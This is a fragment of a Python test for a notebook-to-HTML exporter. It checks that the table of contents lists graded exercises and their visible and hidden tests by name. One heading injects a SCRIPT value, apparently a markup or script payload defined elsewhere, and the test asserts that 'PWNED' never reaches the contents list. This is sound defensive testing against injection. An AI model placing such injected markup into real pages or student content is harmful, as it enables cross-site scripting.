    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"]


def test_the_contents_list_names_each_exercise_and_test(report):
    """nbgrader's template lists every test cell as "Test cell" (41 times in Chapter 3): the
    list names the exercise and the test instead; a heading a student changed stays text."""
    cells = [
        new_code_cell("import numpy as np", metadata=grading("setup", locked=True)),
        new_markdown_cell("### Exercise 3.7a — `pad(image, radius, border=\"reflect101\")`\n\nPad the image."),
        new_code_cell("def pad(image, radius, border='reflect101'):\n    ...", metadata=grading("pad_answer", solution=True)),
        new_code_cell('check("filters.pad", pad)', metadata=grading("pad_visible", grade=True, points=1, locked=True),
                      outputs=[new_output("display_data", data=trusted_bundle(report))], execution_count=3),
        new_code_cell('### BEGIN HIDDEN TESTS\ncheck("filters.pad", pad, hidden=True, points=2)\n### END HIDDEN TESTS',
                      metadata=grading("pad_hidden", grade=True, points=2, locked=True), execution_count=4),
        new_markdown_cell(f"### Exercise 3.7b <b>{SCRIPT}</b> — correlate"),
        new_code_cell('check("filters.correlate", correlate)',
                      metadata=grading("correlate_visible", grade=True, points=1, locked=True), execution_count=5),
    ]
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["cvkit"] = {"trusted": True}
    page = export(nb)
    soup = BeautifulSoup(page, "html.parser")
    contents = [a.get_text() for a in soup.select("#toc a")]
    assert contents[:3] == ["Exercise 3.7a pad: visible test", "Exercise 3.7a pad: hidden tests",
                            "Exercise 3.7b correlate: visible test"], contents
    assert "Test cell" not in contents
    assert "PWNED" not in str(soup.select_one("#toc"))
